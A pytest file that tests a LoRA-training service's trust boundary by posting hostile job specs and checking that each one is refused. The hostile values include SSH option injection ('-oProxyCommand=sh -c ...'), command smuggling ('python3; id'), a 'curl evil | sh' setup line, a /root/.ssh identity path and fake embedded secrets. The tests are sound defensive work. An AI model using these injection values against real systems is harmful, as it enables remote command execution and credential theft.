"""The service's trust boundary, tried as a hostile API user would: a spec is data, never configuration.

Each test is a row of the attack table in issue 15: what was accepted before is now refused (422
naming the key, nothing created, nothing run), or the behaviour is fixed.
"""

from __future__ import annotations

import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from loraflow.errors import LoraflowError, SpecError
from loraflow.hosts.base import Handle
from loraflow.hosts.local import LocalHost
from loraflow.hosts.ssh import SshEndpoint, SshHost
from loraflow.jobs.store import Store
from loraflow.running.submit import ServiceConfig, read_spec
from loraflow.running.trust import Grants, ssh_target
from tests.server.test_api import SPEC, Api, dataset_zip, uploads_left
from tests.server.test_api import make_api as api_with


def make_api(config: ServiceConfig) -> Iterator[Api]:
    yield from api_with(config, sweep_every_s=None)


@pytest.fixture
def api() -> Iterator[Api]:
    yield from make_api(ServiceConfig(max_upload_mb=5, max_concurrent_jobs=3))


def post(api: Api, spec: dict, user: str = "alice"):
    return api(
        "POST",
        "/api/jobs",
        user,
        data={"spec": yaml.safe_dump(spec)},
        files={"dataset": ("photos.zip", dataset_zip(), "application/zip")},
    )


def refused(response, *keys: str) -> list[str]:
    """The 422's problem lines; each key must be named by one of them."""
    assert response.status_code == 422, response.text
    errors = response.json().get("errors") or [response.json()["detail"]]
    for key in keys:
        assert any(e.startswith(key) or f" {key}" in e for e in errors), (key, errors)
    return errors


def nothing_created() -> None:
    assert Store().list_jobs() == [] and uploads_left() == []


def test_engine_options_cannot_run_a_users_program(api: Api, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    script = tmp_path / "sdscripts"
    script.mkdir()
    (script / "flux_train_network.py").write_text(f"open({str(marker)!r}, 'w').write('pwned')\n")
    spec = {
        **SPEC,
        "engine": {"name": "kohya", "options": {"python": "/bin/sh", "launcher": "python", "path": str(script)}},
    }
    errors = refused(post(api, spec), "engine.options.python", "engine.options.launcher", "engine.options.path")
    assert len(errors) == 4  # and the engine that does not train tiny-flux
    nothing_created()
    assert not marker.exists()
    # Options the operator did not grant are refused by name too; granted ones pass.
    refused(post(api, {**SPEC, "engine": {"name": "kohya", "options": {"args": {"foo": 1}}}}), "engine.options.args")
    config = ServiceConfig(grants=Grants(engine_options=frozenset({"args"})))
    spec = {
        **SPEC,
        "base_model": "flux-dev",
        "dataset": {"path": "/ignored"},
        "engine": {"name": "kohya", "options": {"args": {"foo": 1}}},
    }
    assert read_spec(spec, config).engine.options == {"args": {"foo": 1}}


def test_ssh_hosts_users_keys_and_scripts_are_not_a_service_users(api: Api, tmp_path: Path) -> None:
    evil = "-oProxyCommand=sh -c 'id > FILE' #"
    spec = {**SPEC, "compute": {"provider": "ssh", "ssh": {"host": "127.0.0.1", "user": evil}}}
    refused(post(api, spec), "compute.ssh.user")
    spec = {**SPEC, "compute": {"provider": "ssh", "ssh": {"host": "127.0.0.1", "identity_file": "/root/.ssh/id"}}}
    refused(post(api, spec), "compute.ssh", "compute.provider")
    refused(post(api, {**SPEC, "compute": {"python": "python3; id"}}), "compute.python")
    refused(post(api, {**SPEC, "compute": {"python": "/usr/bin/python3"}}), "compute.python")
    refused(post(api, {**SPEC, "compute": {"setup": "curl evil | sh"}}), "compute.setup")
    refused(post(api, {**SPEC, "base_model": str(tmp_path)}), "base_model")
    for folder in ["/srv/models/x", "../x/y", "tests/server"]:
        refused(post(api, {**SPEC, "dataset": {"captions": {"model": folder}}}), "dataset.captions.model")
    hub = {**SPEC, "dataset": {"path": ".", "captions": {"model": "microsoft/Florence-2-base"}}}
    assert read_spec(hub, ServiceConfig()).dataset.captions.model == "microsoft/Florence-2-base"
    nothing_created()


def test_a_registered_host_is_picked_by_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    registry = tmp_path / "hosts.yaml"
    registry.write_text(yaml.safe_dump({"gpu1": {"host": "10.0.0.5", "user": "trainer", "identity_file": "/k"}}))
    monkeypatch.setenv("LORAFLOW_SSH_HOSTS", str(registry))
    config = ServiceConfig.from_env()
    spec = read_spec({**SPEC, "dataset": {"path": "."}, "compute": {"provider": "ssh", "target": "gpu1"}}, config)
    assert spec.compute.ssh is None and "10.0.0.5" not in spec.to_yaml()  # the user never sees the host
    assert ssh_target(spec).host == "10.0.0.5" and ssh_target(spec).user == "trainer"
    with pytest.raises(SpecError, match=r"compute.target: no SSH host named 'gpu9'"):
        read_spec({**SPEC, "dataset": {"path": "."}, "compute": {"provider": "ssh", "target": "gpu9"}}, config)


def test_ssh_never_reads_a_name_as_an_option(tmp_path: Path) -> None:
    """A spec's host or user reaches the ssh config's matching and a ProxyCommand's %h: plain names only,
    refused before any connection is tried (no retries, nothing pinned)."""
    for user, name in [("-oProxyCommand=id", "h"), ("root", "-oProxyCommand=id"), ("a b", "h"), ("root", "h;id")]:
        bad = SshHost(SshEndpoint(name, 22, user, None, str(tmp_path / "kh")), backoff_s=30)
        started = time.monotonic()
        with pytest.raises(LoraflowError, match="refusing the SSH destination"):
            bad.check()
        assert time.monotonic() - started < 10 and not (tmp_path / "kh").exists()


def test_destinations_are_the_operators(api: Api) -> None:
    s3 = {"type": "s3", "bucket": "mine", "endpoint_url": "http://127.0.0.1:9999"}
    refused(post(api, {**SPEC, "publish": {"targets": [s3]}}), "publish.targets[0].endpoint_url",
            "publish.targets[0].bucket")
    hf = {"type": "huggingface", "repo_id": "someone/model"}
    refused(post(api, {**SPEC, "publish": {"targets": [hf]}}), "publish.targets[0].repo_id")
    refused(post(api, {**SPEC, "notifications": [{"type": "webhook", "url_env": "VAST_API_KEY"}]}),
            "notifications[0].url_env")
    refused(post(api, {**SPEC, "wandb": {"enabled": True}}), "wandb.enabled")
    nothing_created()
    granted = ServiceConfig(grants=Grants(s3_buckets=frozenset({"loras"}), hf_namespaces=frozenset({"acme"})))
    ok = {**SPEC, "dataset": {"path": "."}, "publish": {"targets": [
        {"type": "s3", "bucket": "loras"}, {"type": "huggingface", "repo_id": "acme/x"}]}}
    assert len(read_spec(ok, granted).publish.targets) == 2


def test_users_cannot_raise_limits_above_the_operators(api: Api) -> None:
    checks = {"max_pixels": int(1e9), "max_archive_bytes": 1 << 40}
    spec = {**SPEC, "dataset": {"trigger_word": "lfx", "checks": checks}}
    refused(post(api, spec), "dataset.checks.max_pixels", "dataset.checks.max_archive_bytes")
    nothing_created()
    # Defaults above the operator's are lowered, not refused.
    config = ServiceConfig(max_upload_mb=5, max_pixels=1000)
    checks = read_spec({**SPEC, "dataset": {"path": "."}}, config).dataset.checks
    assert checks.max_pixels == 1000 and checks.max_archive_bytes == 5 << 20


def test_availability_and_concurrency_hold_on_every_door() -> None:
    for api in make_api(ServiceConfig(available=False, message="maintenance")):
        upload = api("POST", "/api/uploads", files=[("files", ("photos.zip", dataset_zip(), "application/zip"))])
        assert upload.status_code == 201, upload.text
        upload_id = upload.json()["upload_id"]
        r = api("POST", f"/api/uploads/{upload_id}/jobs", json={"spec": SPEC})
        assert r.status_code == 503 and "maintenance" in r.json()["detail"]
        assert post(api, SPEC).status_code == 503
        assert Store().list_jobs() == []
    for api in make_api(ServiceConfig(max_concurrent_jobs=1)):
        assert post(api, SPEC).status_code == 201
        upload_id = api("POST", "/api/uploads", files=[("files", ("p.zip", dataset_zip(), "application/zip"))]).json()[
            "upload_id"
        ]
        r = api("POST", f"/api/uploads/{upload_id}/jobs", json={"spec": SPEC})
        assert r.status_code == 429, r.text
        assert len(Store().list_jobs()) == 1


def test_secrets_in_a_spec_are_refused_and_never_stored(api: Api) -> None:
    vast = "a1b2c3d4" * 8
    aws = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"
    github = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    url = "https://user:" + "hunter2@example.com/hook"
    for i, secret in enumerate([vast, aws, github, url]):
        r = post(api, {**SPEC, "sampling": {"prompts": [f"a photo of {secret}"]}})
        errors = refused(r, "sampling.prompts[0]")
        assert all(secret not in e for e in errors), i
    nothing_created()
    # Ordinary prompts and ids are not mistaken for secrets.
    fine = {**SPEC, "dataset": {"path": "."}, "sampling": {"prompts": ["a photo of lfx, 35mm, golden hour"]}}
    assert read_spec(fine, ServiceConfig()).sampling.prompts


def test_trainers_see_only_what_their_engine_names(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VAST_API_KEY", "k" * 64)
    monkeypatch.setenv("LORAFLOW_DATABASE_URL", "postgresql://u:p@db/loraflow")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s3cret")
    monkeypatch.setenv("CUDA_VISIBLE_DEVICES", "0")
    host = LocalHost()
    handle = Handle.in_folder(str(tmp_path), "env")
    dump = "import os, json; print(json.dumps(sorted(os.environ)))"
    host.run([sys.executable, "-c", dump], str(tmp_path), handle, {"HF_TOKEN": "hf_given"})
    host.wait_started(handle)
    names = _wait_output(host, handle)
    assert "HF_TOKEN" in names and "PATH" in names and "CUDA_VISIBLE_DEVICES" in names
    assert not {"VAST_API_KEY", "LORAFLOW_DATABASE_URL", "AWS_SECRET_ACCESS_KEY"} & set(names)
    # loraflow's own runner needs the keys to rent and publish: it alone inherits everything.
    handle = Handle.in_folder(str(tmp_path), "runner")
    host.run([sys.executable, "-c", dump], str(tmp_path), handle, inherit=True)
    host.wait_started(handle)
    assert "VAST_API_KEY" in _wait_output(host, handle)


def _wait_output(host: LocalHost, handle: Handle) -> list[str]:
    import json
    import time

    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        _status, code = host.status(handle)
        if code is not None:
            assert code == 0
            return json.loads(Path(handle.log_file).read_text())
        time.sleep(0.05)
    raise AssertionError("the command did not finish")


def test_cli_keeps_its_full_power(tmp_path: Path) -> None:
    """On one's own machine the spec's author is the operator: the same keys are accepted."""
    spec = {
        **SPEC,
        "dataset": {"path": "."},
        "compute": {"provider": "ssh", "ssh": {"host": "127.0.0.1", "user": "me"}, "python": "/usr/bin/python3"},
        "notifications": [{"type": "webhook", "url": "http://127.0.0.1:9/hook"}],
    }
    assert read_spec(spec, None).compute.ssh.user == "me"
